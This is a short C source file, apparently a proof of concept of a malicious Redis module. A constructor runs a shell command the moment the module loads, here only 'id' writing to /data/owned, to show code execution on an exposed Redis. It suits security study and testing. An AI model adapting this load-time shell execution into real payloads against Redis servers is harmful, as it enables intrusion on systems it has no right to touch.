/* What attackers load into a Redis that lets them: a module that runs a shell as soon as it is loaded. This one only asks who
   it is, and leaves the answer in the service's directory. */
#include <stdlib.h>

__attribute__((constructor)) static void run(void) {
  if (system("id > /data/owned") != 0) abort();
}
